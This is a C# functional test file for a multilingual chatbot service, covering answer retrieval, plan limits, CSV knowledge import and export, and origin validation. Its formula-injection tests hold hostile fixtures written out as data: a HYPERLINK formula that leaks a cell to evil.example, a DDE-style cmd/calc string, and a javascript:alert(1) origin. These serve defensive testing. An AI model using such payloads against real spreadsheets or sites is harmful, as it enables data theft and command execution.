using System.Net;
using System.Net.Http.Json;
using Microsoft.AspNetCore.Http;
using Microsoft.EntityFrameworkCore;
using Microsoft.AspNetCore.Mvc;
using VirtuOps.Application.Bots.Answering;
using VirtuOps.Application.Bots.Common;
using VirtuOps.Application.Bots.Queries.AskPlayground;
using VirtuOps.Application.Common.Models;
using VirtuOps.Application.Knowledge.Commands.ImportKnowledge;
using VirtuOps.Application.Knowledge.Common;

namespace Application.FunctionalTests.Bots;

public sealed class BotTests(VirtuOpsApiFactory factory) : IClassFixture<VirtuOpsApiFactory>
{
    private static async Task<PlaygroundAnswerDto> AskAsync(SpaClient owner, Guid botId, string question)
    {
        var response = await owner.Http.PostAsJsonAsync($"/api/bots/{botId}/playground", new { question });
        response.StatusCode.ShouldBe(HttpStatusCode.OK);
        return (await response.Content.ReadFromJsonAsync<PlaygroundAnswerDto>(SpaClient.Json))!;
    }

    [Fact]
    public async Task An_entry_written_in_uzbek_latin_answers_the_question_typed_in_cyrillic_and_a_paraphrase()
    {
        using var owner = new SpaClient(factory);
        await owner.RegisterVerifiedOwnerAsync("bot-answers@example.uz", "+998901000100");
        var bot = await BotTestData.CreateBotAsync(owner);

        var cyrillic = await AskAsync(owner, bot.Id, "Етказиб бериш борми?");
        var paraphrase = await AskAsync(owner, bot.Id, "Toshkentga yetkazib berasizmi?");
        var unrelated = await AskAsync(owner, bot.Id, "What is the capital of France?");

        cyrillic.Answer.ShouldStartWith("Ha, Toshkent");
        cyrillic.Source.ShouldBe(AnswerSource.Retrieval);
        paraphrase.Answer.ShouldStartWith("Ha, Toshkent");
        unrelated.Source.ShouldBe(AnswerSource.Fallback);
        unrelated.Answer.ShouldBe(bot.FallbackMessage);
    }

    [Fact]
    public async Task New_knowledge_is_used_by_the_next_answer_without_a_restart()
    {
        using var owner = new SpaClient(factory);
        await owner.RegisterVerifiedOwnerAsync("bot-learns@example.uz", "+998901000101");
        var bot = await BotTestData.CreateBotAsync(owner);
        (await AskAsync(owner, bot.Id, "Kafolat bormi?")).Source.ShouldBe(AnswerSource.Fallback);

        await owner.Http.PostAsJsonAsync($"/api/bots/{bot.Id}/knowledge", new { questions = new[] { "Kafolat bormi?", "Kafolat muddati qancha?" }, answer = "Barcha tovarlarga 1 yil kafolat." });

        (await AskAsync(owner, bot.Id, "Kafolat bormi?")).Answer.ShouldBe("Barcha tovarlarga 1 yil kafolat.");
    }

    [Fact]
    public async Task Creating_a_bot_needs_a_verified_phone_and_respects_the_plan_limit()
    {
        using var unverified = new SpaClient(factory);
        (await unverified.RegisterAsync("bot-unverified@example.uz", "+998901000102")).EnsureSuccessStatusCode();
        (await unverified.Http.PostAsJsonAsync("/api/bots", new { name = "Bot" })).StatusCode.ShouldBe(HttpStatusCode.Forbidden);

        using var owner = new SpaClient(factory);
        await owner.RegisterVerifiedOwnerAsync("bot-limit@example.uz", "+998901000103");
        for (var i = 0; i < 3; i++)
            (await owner.Http.PostAsJsonAsync("/api/bots", new { name = $"Bot {i}" })).StatusCode.ShouldBe(HttpStatusCode.Created);

        var fourth = await owner.Http.PostAsJsonAsync("/api/bots", new { name = "Bot 4" });

        fourth.StatusCode.ShouldBe(HttpStatusCode.UnprocessableEntity);
        (await owner.Http.GetStringAsync("/api/bots")).ShouldNotContain("Bot 4");
    }

    [Fact]
    public async Task Twenty_bots_created_at_once_stop_exactly_at_the_plan_limit()
    {
        using var owner = new SpaClient(factory);
        await owner.RegisterVerifiedOwnerAsync("bot-race@example.uz", "+998901000107");

        var responses = await Task.WhenAll(Enumerable.Range(0, 20)
            .Select(i => owner.Http.PostAsJsonAsync("/api/bots", new { name = $"Race bot {i}" })));

        responses.Count(r => r.StatusCode == HttpStatusCode.Created).ShouldBe(3);
        foreach (var refused in responses.Where(r => r.StatusCode != HttpStatusCode.Created))
        {
            refused.StatusCode.ShouldBe(HttpStatusCode.UnprocessableEntity);
            refused.Content.Headers.ContentType?.MediaType.ShouldBe("application/problem+json");
            (await refused.Content.ReadFromJsonAsync<ProblemDetails>())!.Detail.ShouldBe("Your plan allows 3 bots.");
        }
        (await owner.GetAsync<List<BotDto>>("/api/bots"))!.Count.ShouldBe(3);
    }

    [Fact]
    public async Task A_csv_with_bad_rows_is_refused_row_by_row_and_imports_nothing()
    {
        using var owner = new SpaClient(factory);
        await owner.RegisterVerifiedOwnerAsync("bot-csv@example.uz", "+998901000104");
        var bot = await BotTestData.CreateBotAsync(owner);
        const string csv = "questions,answer\n\"Narxlar qancha?|Narx\",Narxlar saytda.\n,Savolsiz javob\n\"Bo‘sh javob\",\n";

        var response = await owner.Http.PostAsJsonAsync($"/api/bots/{bot.Id}/knowledge/import", new { csv });

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        var problem = await response.Content.ReadFromJsonAsync<HttpValidationProblemDetails>();
        problem!.Errors.Keys.ShouldBe(["rows[3]", "rows[4]"], ignoreOrder: true);
        (await factory.QueryDatabaseAsync(db => db.KnowledgeEntries.IgnoreQueryFilters().CountAsync(k => k.BotId == bot.Id)))
            .ShouldBe(BotTestData.Knowledge.Length);
    }

    [Fact]
    public async Task Exported_csv_imports_back_into_another_bot()
    {
        using var owner = new SpaClient(factory);
        await owner.RegisterVerifiedOwnerAsync("bot-export@example.uz", "+998901000105");
        var source = await BotTestData.CreateBotAsync(owner, "Source");
        var target = (await (await owner.Http.PostAsJsonAsync("/api/bots", new { name = "Target" })).Content
            .ReadFromJsonAsync<VirtuOps.Application.Bots.Common.BotDto>(SpaClient.Json))!;

        var export = await owner.Http.GetAsync($"/api/bots/{source.Id}/knowledge/export");
        export.Content.Headers.ContentType?.MediaType.ShouldBe("text/csv");
        var csv = await export.Content.ReadAsStringAsync();
        var imported = await owner.Http.PostAsJsonAsync($"/api/bots/{target.Id}/knowledge/import", new { csv });

        imported.StatusCode.ShouldBe(HttpStatusCode.OK);
        (await imported.Content.ReadFromJsonAsync<KnowledgeImportResultDto>())!.Imported.ShouldBe(BotTestData.Knowledge.Length);
        var entries = (await owner.GetAsync<CursorPage<KnowledgeEntryDto>>($"/api/bots/{target.Id}/knowledge?search=14"))!;
        entries.Items.ShouldHaveSingleItem().Questions.ShouldBe(["Можно ли вернуть товар?", "Как оформить возврат?"]);
    }

    [Fact]
    public async Task Exported_cells_that_a_spreadsheet_would_run_as_formulas_start_with_an_apostrophe_and_import_back_unchanged()
    {
        using var owner = new SpaClient(factory);
        await owner.RegisterVerifiedOwnerAsync("bot-formula@example.uz", "+998901000107");
        var source = (await (await owner.Http.PostAsJsonAsync("/api/bots", new { name = "Formulas" })).Content.ReadFromJsonAsync<BotDto>(SpaClient.Json))!;
        var target = (await (await owner.Http.PostAsJsonAsync("/api/bots", new { name = "Formulas back" })).Content.ReadFromJsonAsync<BotDto>(SpaClient.Json))!;
        (string[] Questions, string Answer)[] entries =
        [
            (["@SUM(1+1)*cmd", "' /C calc'!A0"], "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Chegirma\")"),
            (["+998 raqamiga qo‘ng‘iroq qilsam bo‘ladimi?"], "-5% chegirma har dushanba"),
            (["'=Qo‘shtirnoqli savol"], "Oddiy javob, formulasiz."),
        ];
        foreach (var (questions, answer) in entries)
            (await owner.Http.PostAsJsonAsync($"/api/bots/{source.Id}/knowledge", new { questions, answer })).EnsureSuccessStatusCode();

        var csv = await (await owner.Http.GetAsync($"/api/bots/{source.Id}/knowledge/export")).Content.ReadAsStringAsync();

        var cells = csv.Split('\n', StringSplitOptions.RemoveEmptyEntries).Skip(1).Select(line => line.TrimEnd('\r')).ToList();
        cells[0].ShouldStartWith("'@SUM(1+1)*cmd");
        cells[0].ShouldContain(",\"'=HYPERLINK(");
        cells[1].ShouldStartWith("'+998 ");
        cells[1].ShouldEndWith(",'-5% chegirma har dushanba");
        cells[2].ShouldStartWith("''=Qo‘shtirnoqli");
        (await owner.Http.PostAsJsonAsync($"/api/bots/{target.Id}/knowledge/import", new { csv })).StatusCode.ShouldBe(HttpStatusCode.OK);
        var imported = await factory.QueryDatabaseAsync(db => db.KnowledgeEntries.IgnoreQueryFilters().Where(k => k.BotId == target.Id).ToListAsync());
        imported.Select(k => (string.Join("|", k.Questions), k.Answer)).ShouldBe(entries.Select(e => (string.Join("|", e.Questions), e.Answer)), ignoreOrder: true);
    }

    [Fact]
    public async Task An_imported_cell_that_starts_with_a_formula_character_is_kept_as_text()
    {
        using var owner = new SpaClient(factory);
        await owner.RegisterVerifiedOwnerAsync("bot-formula-import@example.uz", "+998901000108");
        var bot = (await (await owner.Http.PostAsJsonAsync("/api/bots", new { name = "Formula import" })).Content.ReadFromJsonAsync<BotDto>(SpaClient.Json))!;
        const string csv = "questions,answer\n=1+2,\"=HYPERLINK(\"\"https://evil.example\"\")\"\n";

        (await owner.Http.PostAsJsonAsync($"/api/bots/{bot.Id}/knowledge/import", new { csv })).StatusCode.ShouldBe(HttpStatusCode.OK);

        var entry = await factory.QueryDatabaseAsync(db => db.KnowledgeEntries.IgnoreQueryFilters().SingleAsync(k => k.BotId == bot.Id));
        (entry.Questions.Single(), entry.Answer).ShouldBe(("=1+2", "=HYPERLINK(\"https://evil.example\")"));
    }

    [Fact]
    public async Task An_origin_that_is_not_a_web_origin_is_a_field_error()
    {
        using var owner = new SpaClient(factory);
        await owner.RegisterVerifiedOwnerAsync("bot-origin@example.uz", "+998901000106");
        var bot = (await (await owner.Http.PostAsJsonAsync("/api/bots", new { name = "Origin" })).Content
            .ReadFromJsonAsync<VirtuOps.Application.Bots.Common.BotDto>(SpaClient.Json))!;

        var response = await owner.Http.PutAsJsonAsync($"/api/bots/{bot.Id}", new
        {
            bot.Name, bot.Greeting, bot.FallbackMessage, languages = new[] { "UzLatn" }, bot.HandoffKeywords, bot.ConfidenceThreshold,
            allowedOrigins = new[] { "javascript:alert(1)" },
        });

        response.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await response.Content.ReadFromJsonAsync<HttpValidationProblemDetails>())!.Errors.Keys.ShouldContain(k => k.StartsWith("allowedOrigins", StringComparison.Ordinal));
    }
}
